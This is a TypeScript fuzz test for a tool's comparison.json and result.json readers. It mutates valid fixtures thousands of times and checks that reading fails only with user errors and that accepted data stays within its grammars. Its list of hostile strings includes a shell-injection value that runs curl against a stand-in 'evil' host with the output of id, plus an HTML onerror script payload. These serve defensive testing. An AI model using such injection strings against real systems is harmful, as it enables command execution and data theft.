/**
 * A seeded fuzz of the artifact readers: a real comparison.json and result.json (test/compare/
 * artifact-fixtures.ts) mutated thousands of times (fields dropped, replaced by values of the
 * wrong type, hostile strings, huge numbers, deep nesting, keys added, the text cut) and read as
 * the relay modes read them. Reading never throws anything but a UserError; every document it
 * accepts has ids, gate names, scenario names, verdicts and statuses inside their grammars, and
 * renders (comment, outputs) without an error.
 */
import assert from 'node:assert/strict';
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { test } from 'node:test';
import { ArtifactError } from '../../src/compare/checker.ts';
import { isGateName, isScenarioName, isUnitId } from '../../src/compare/grammar.ts';
import { parseComparison, readComparison } from '../../src/compare/read-comparison.ts';
import { parseResult, readResult } from '../../src/compare/result.ts';
import { seeded, type Rng } from '../../src/stats/rng.ts';
import type { Comparison } from '../../src/compare/types.ts';
import { UserError } from '../../src/errors.ts';
import { gatesFailed, verdictOf } from '../../src/github/publish.ts';
import { renderAggregateMarkdown } from '../../src/report/aggregate.ts';
import { toJson } from '../../src/report/json.ts';
import { renderMarkdown } from '../../src/report/markdown.ts';
import { renderResultMarkdown } from '../../src/report/result-markdown.ts';
import { tempDir } from '../helpers.ts';
import { validComparison, validResult } from './artifact-fixtures.ts';
import { appendPoint, historyView, pointOf } from '../../src/compare/history.ts';
import { renderHistoryMarkdown, renderHistoryTerminal } from '../../src/report/history-terminal.ts';

/* eslint-disable @typescript-eslint/no-explicit-any -- mutating parsed JSON */
type Json = any;

const ITERATIONS = 4000;
const SEED = 20261203;

const HOSTILE = [
  'x"; curl http://evil/$(id) #',
  '<img src=x onerror=alert(1)></details>',
  '@everyone',
  '<!-- misnomer:report key=default -->',
  '',
  'mlp/decode/x',
  'decode.latency.p51',
  '\u0000\u001b[31m\u202e',
  'x'.repeat(5000),
  '__proto__',
];

/** A value of any kind, sometimes nested deep. */
function anyValue(rng: Rng, depth = 0): Json {
  const pick = Math.floor(rng() * 14);
  switch (pick) {
    case 0:
      return null;
    case 1:
      return rng() < 0.5;
    case 2:
      return [0, -1, 1e308, -1e308, 2 ** 53 + 1, 5e-324, -0][Math.floor(rng() * 7)];
    case 3:
      return Math.floor(rng() * 2 ** 31) * (rng() < 0.5 ? 1 : -1);
    case 4:
    case 5:
    case 6:
      return HOSTILE[Math.floor(rng() * HOSTILE.length)];
    case 7:
      return [];
    case 8:
      return {};
    case 9:
      return [null];
    case 10: {
      // Deep nesting: a list in a list ... (200 levels).
      let v: Json = HOSTILE[0];
      for (let i = 0; i < 200; i++) v = rng() < 0.5 ? [v] : { a: v };
      return v;
    }
    default:
      return depth < 2 ? [anyValue(rng, depth + 1), anyValue(rng, depth + 1)] : 'leaf';
  }
}

/** Every container in the document with the keys (or indexes) it holds. */
function slots(doc: Json): [Json, string | number][] {
  const out: [Json, string | number][] = [];
  const walk = (v: Json) => {
    if (Array.isArray(v)) {
      v.forEach((x, i) => {
        out.push([v, i]);
        walk(x);
      });
    } else if (v && typeof v === 'object') {
      for (const k of Object.keys(v)) {
        out.push([v, k]);
        walk(v[k]);
      }
    }
  };
  walk(doc);
  return out;
}

/** One to three mutations of `doc`, in place. */
function mutate(doc: Json, rng: Rng): void {
  const n = 1 + Math.floor(rng() * 3);
  for (let i = 0; i < n; i++) {
    const all = slots(doc);
    const [holder, key] = all[Math.floor(rng() * all.length)];
    const kind = rng();
    if (kind < 0.2) {
      if (Array.isArray(holder)) holder.splice(key as number, 1);
      else delete holder[key];
    } else if (kind < 0.7) {
      holder[key] = anyValue(rng);
    } else if (kind < 0.8) {
      holder[key] = rng() < 0.5 ? [holder[key]] : { value: holder[key] };
    } else if (kind < 0.9 && !Array.isArray(holder)) {
      // A key the attacker chose, own property even when it is __proto__.
      const name = HOSTILE[Math.floor(rng() * HOSTILE.length)];
      Object.defineProperty(holder, name, {
        value: anyValue(rng),
        enumerable: true,
        writable: true,
        configurable: true,
      });
    } else if (Array.isArray(holder)) {
      holder.push(structuredClone(holder[key as number]));
    } else {
      holder[key] = structuredClone(holder[key]);
    }
  }
}

const dir = tempDir();

/**
 * Through text, as a file is read: the parsed document, or (one time in twenty) the path of a
 * file holding the text, sometimes cut short, for the file readers.
 */
function asRead(doc: Json, rng: Rng, name: string): { data: unknown } | { path: string } {
  const text = JSON.stringify(doc);
  if (rng() >= 0.05) return { data: JSON.parse(text) };
  const path = join(dir, name);
  writeFileSync(path, rng() < 0.5 ? text.slice(0, Math.floor(rng() * text.length)) : text);
  return { path };
}

const STATUSES = ['compared', 'added', 'removed', 'failed'];
const VERDICTS = [
  'better',
  'worse',
  'unchanged',
  'changed',
  'inconclusive',
  'not-tested',
  'not-comparable',
];

function checkAccepted(c: Comparison): void {
  for (const m of c.models) {
    assert.ok(isUnitId(m.id), m.id.slice(0, 80));
    assert.ok(STATUSES.includes(m.status), m.status);
    if (m.scenario) assert.ok(isScenarioName(m.scenario.name), m.scenario.name.slice(0, 80));
    for (const d of [...m.static, ...m.runtime]) assert.ok(VERDICTS.includes(d.verdict), d.verdict);
  }
  for (const g of c.gates)
    assert.ok(isUnitId(g.model) && isGateName(g.gate), `${g.model} ${g.gate}`.slice(0, 80));
  // What the Action then does with it: outputs, the comment, the aggregate column.
  assert.match(verdictOf(c), /^[a-z-]+$/);
  assert.match(gatesFailed([{ runner: 'ubuntu-a', comparison: c }]), /^([A-Za-z0-9._/:-]+(,|$))*$/);
  renderMarkdown(c, { marker: '<!-- misnomer:report key=default -->' });
  renderAggregateMarkdown([{ runner: 'ubuntu-a', comparison: c }], {});
}

/** Runs `read`; a throw must be a UserError. Returns whether the document was accepted. */
function attempt(read: () => void, seedInfo: string): boolean {
  try {
    read();
    return true;
  } catch (e) {
    if (e instanceof UserError) {
      assert.ok(!(e as Error).message.includes('\n'), `a message of several lines (${seedInfo})`);
      if (e instanceof ArtifactError) assert.ok(!e.reason.includes('curl'), e.reason);
      return false;
    }
    throw new Error(`not a UserError (${seedInfo}): ${(e as Error)?.stack ?? e}`, { cause: e });
  }
}

test(`comparison.json: ${ITERATIONS} mutations, only UserErrors, every accepted one in its grammars`, () => {
  const base = JSON.parse(toJson(validComparison()));
  const rng = seeded(SEED);
  let accepted = 0;
  const started = Date.now();
  for (let i = 0; i < ITERATIONS; i++) {
    const doc = structuredClone(base);
    mutate(doc, rng);
    const input = asRead(doc, rng, 'comparison.json');
    const ok = attempt(() => {
      const c =
        'path' in input
          ? readComparison(input.path)
          : parseComparison(input.data, 'comparison.json');
      checkAccepted(c);
    }, `iteration ${i}`);
    if (ok) accepted++;
  }
  // Both ways are exercised: some mutations are harmless (a note's text), most are refused.
  assert.ok(accepted > 50 && accepted < ITERATIONS - 500, `${accepted} of ${ITERATIONS} accepted`);
  console.log(
    `comparison.json: ${ITERATIONS} mutations, ${accepted} accepted, ${Date.now() - started} ms`,
  );
});

test(`result.json: ${ITERATIONS} mutations, only UserErrors, every accepted one in its grammars`, () => {
  const base = JSON.parse(toJson(validResult()));
  const rng = seeded(SEED + 1);
  let accepted = 0;
  const started = Date.now();
  for (let i = 0; i < ITERATIONS; i++) {
    const doc = structuredClone(base);
    mutate(doc, rng);
    const input = asRead(doc, rng, 'result.json');
    const ok = attempt(() => {
      const r =
        'path' in input
          ? readResult(input.path, { untrusted: true })
          : parseResult(input.data, 'result.json', { untrusted: true });
      for (const m of r.models) assert.ok(isUnitId(m.id), m.id.slice(0, 80));
      renderResultMarkdown(r, {
        marker: '<!-- misnomer:report key=default -->',
        note: 'head alone',
      });
    }, `iteration ${i}`);
    if (ok) accepted++;
  }
  assert.ok(accepted > 50 && accepted < ITERATIONS - 500, `${accepted} of ${ITERATIONS} accepted`);
  console.log(
    `result.json: ${ITERATIONS} mutations, ${accepted} accepted, ${Date.now() - started} ms`,
  );
});

test(`a history in comparison.json and result.json: ${ITERATIONS / 2} mutations each, only UserErrors, every accepted one renders`, () => {
  // Two baseline points and the head, every field of a point present (latency, hardware).
  const r = { ...validResult(), commit: 'c'.repeat(40) };
  const points = [
    pointOf({ ...r, commit: 'a'.repeat(40) }),
    pointOf({ ...r, commit: 'b'.repeat(40) }),
  ];
  const withHistory = { ...validComparison(), history: historyView(points, r) };
  const cases = [
    { base: JSON.parse(toJson(withHistory)), comparison: true },
    {
      base: JSON.parse(toJson({ ...r, history: appendPoint(points.slice(0, 1), points[1]) })),
      comparison: false,
    },
  ];
  const hex = /^[0-9a-f]+$/;
  for (const [k, { base, comparison }] of cases.entries()) {
    const rng = seeded(SEED + 2 + k);
    let accepted = 0;
    for (let i = 0; i < ITERATIONS / 2; i++) {
      const doc = structuredClone(base);
      // Mutate inside the history mostly: it is what this test is about.
      mutate(rng() < 0.8 ? doc.history : doc, rng);
      const ok = attempt(() => {
        if (comparison) {
          const c = parseComparison(doc, 'comparison.json');
          checkAccepted(c);
          for (const p of [
            ...(c.history?.baseline ?? []),
            ...(c.history ? [c.history.head] : []),
          ]) {
            assert.ok(p.commit === undefined || hex.test(p.commit));
            assert.ok(p.hardware === undefined || hex.test(p.hardware));
            for (const u of p.units) assert.ok(isUnitId(u.id), u.id.slice(0, 80));
          }
        } else {
          const res = parseResult(doc, 'result.json', { untrusted: true });
          const pts = res.history?.points ?? [];
          renderHistoryTerminal(pts, 'results');
          renderHistoryMarkdown(pts, 'results');
        }
      }, `history ${k} iteration ${i}`);
      if (ok) accepted++;
    }
    assert.ok(accepted > 20 && accepted < ITERATIONS / 2 - 100, `${accepted} accepted`);
  }
});
